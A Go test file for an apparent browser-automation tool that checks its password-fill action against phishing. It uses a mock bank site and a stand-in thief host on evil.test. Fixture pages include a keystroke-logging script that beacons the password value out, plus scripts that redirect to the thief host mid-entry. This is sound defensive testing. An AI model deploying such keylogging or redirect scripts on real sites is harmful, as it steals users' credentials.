package browser

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

const secretWord = "Zq7vKx9-S3cr3t!pw"

// bank is a site with real-looking names over TLS; what reaches the foreign one is kept.
type bank struct {
	srv   *httptest.Server
	mu    sync.Mutex
	taken string
	hits  chan struct{}
}

const (
	bankHost  = "account.example.com"
	thiefHost = "account.example.com.evil.test"
)

func newBank(t *testing.T) *bank {
	b := &bank{hits: make(chan struct{}, 1000)}
	b.srv = httptest.NewTLSServer(http.HandlerFunc(b.serve))
	t.Cleanup(b.srv.Close)
	return b
}

func (b *bank) serve(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html")
	field := `<!doctype html><title>Sign in</title><input id=p type=password><p id=out></p>`
	if r.Host == thiefHost {
		body, _ := io.ReadAll(r.Body)
		b.mu.Lock()
		b.taken += string(body)
		b.mu.Unlock()
		b.hits <- struct{}{}
		if r.Method == "GET" {
			_, _ = io.WriteString(w, field+`<script>p.focus();p.oninput=p.onkeydown=e=>navigator.sendBeacon('/k',p.value||e.key)</script>`)
		}
		return
	}
	away := `location='https://` + thiefHost + `/'`
	page := map[string]string{
		"/":        field,
		"/react":   field + `<script>let v='';p.addEventListener('input',e=>{v=p.value;out.textContent=v.length})</script>`,
		"/typed":   field + `<script>p.addEventListener('input',e=>{if(!e.isTrusted)p.value=''})</script>`,
		"/swap":    field + `<script>p.onfocus=()=>{` + away + `}</script>`,
		"/leave":   field + `<script>p.oninput=()=>{` + away + `}</script>`,
		"/later":   field + `<script>setTimeout(()=>{` + away + `},15)</script>`,
		"/text":    `<!doctype html><input id=p type=text>`,
		"/two":     field + `<input type=password id=q>`,
		"/mirror":  field + `<input id=q><script>p.oninput=()=>{q.value=p.value}</script>`,
		"/turn":    field + `<script>p.onfocus=()=>{p.type='text'}</script>`,
		"/framed":  `<!doctype html><iframe src="https://` + thiefHost + `/"></iframe>`,
		"/inframe": `<!doctype html><iframe src="https://sub.` + bankHost + `/"></iframe>`,
		"/blank":   `<!doctype html><iframe srcdoc="<input type=password id=p>"></iframe>`,
	}[r.URL.Path]
	_, _ = io.WriteString(w, page)
}

func (b *bank) visit(t *testing.T) (*Session, context.Context) {
	t.Helper()
	ctx := soon(t)
	s, err := Open(ctx, Options{Mock: b.srv.Listener.Addr().String(), Hosts: []string{bankHost, "*." + bankHost}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	return s, ctx
}

func TestPassword(t *testing.T) {
	b := newBank(t)
	s, ctx := b.visit(t)
	field := css("the password", "#p")
	at := func(path string) string { return "https://" + bankHost + path }

	for _, path := range []string{"/", "/react", "/typed", "/inframe"} {
		do(t, s, ctx, Goto(at(path)), field.FillPassword(secretWord))
		if st, err := look(s, ctx, field); err != nil || st.Text != "17" {
			t.Errorf("%s: %v, %v", path, st, err)
		}
	}
	do(t, s, ctx, Goto(at("/react")), field.FillPassword(secretWord))
	if got := eval[string](t, s, "out.textContent"); got != "17" {
		t.Errorf("the page noticed %q", got)
	}

	for path, want := range map[string]struct {
		kind  error
		words string
	}{
		"/text":   {ErrNotReady, "the password is not a password field"},
		"/two":    {ErrNotReady, "the password is ambiguous (2 password fields)"},
		"/mirror": {ErrUnsure, "another field shows what was given"},
		"/framed": {ErrNotReady, "missing"}, // frames of other hosts are not looked into
		"/blank":  {ErrPlace, ""},
	} {
		do(t, s, ctx, Goto(at(path)))
		err := overdueFails(t, ctx, 400*time.Millisecond, doing(s, field.FillPassword(secretWord)), "fill the password: ", want.words)
		if !errors.Is(err, want.kind) || err != nil && strings.Contains(err.Error(), secretWord) {
			t.Errorf("%s: %v", path, err)
		}
	}
	do(t, s, ctx, Goto(at("/framed")))
	there := Find("the field over there", Way{CSS: "#p", URL: thiefHost + "/*"}) // as those for captchas are found
	for _, a := range []Action{there.FillPassword(secretWord), there.Fill("123456"), there.Click(), there.Tick(), there.FillSplit("123456")} {
		if err := s.Do(ctx, a); !errors.Is(err, ErrPlace) {
			t.Errorf("%s: %v", a.Does, err)
		}
	}
	do(t, s, ctx, Goto(at("/turn")))
	if err := s.Do(short(t, ctx, 400*time.Millisecond), field.FillPassword(secretWord)); err == nil {
		t.Error("a field that turned into a text field got it")
	}
	if got := eval[string](t, s, "p.value"); got != "" {
		t.Error("a field that turned into a text field holds it")
	}
	do(t, s, ctx, Goto(at("/")))
	err := s.Do(ctx, field.Fill("x"))
	fails(t, err, "fill the password: the password is a password field")
}

// A page that leaves for a foreign site in the middle gives nothing away.
func TestPasswordIsNotPhished(t *testing.T) {
	b := newBank(t)
	s, ctx := b.visit(t)
	for range 5 {
		for _, path := range []string{"/swap", "/leave", "/later"} {
			do(t, s, ctx, Goto("https://"+bankHost+path))
			err := s.Do(short(t, ctx, time.Second), css("the password", "#p").FillPassword(secretWord))
			if err != nil && strings.Contains(err.Error(), secretWord) {
				t.Error("the error tells it")
			}
			for !strings.Contains(s.URL(), thiefHost) {
				if err := ctx.Err(); err != nil {
					t.Fatal(path, s.URL(), err)
				}
				<-b.hits // it has been asked for its page
				_, _ = s.WaitFor(short(t, ctx, 100*time.Millisecond), Visible(css("nothing", "#never")))
			}
			if got := eval[string](t, s, `document.querySelector("#p")?.value ?? ""`); got != "" {
				t.Errorf("%s: the foreign field holds %d characters", path, len(got))
			}
		}
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.taken != "" {
		t.Errorf("it reached the foreign site: %d characters", len(b.taken))
	}
}
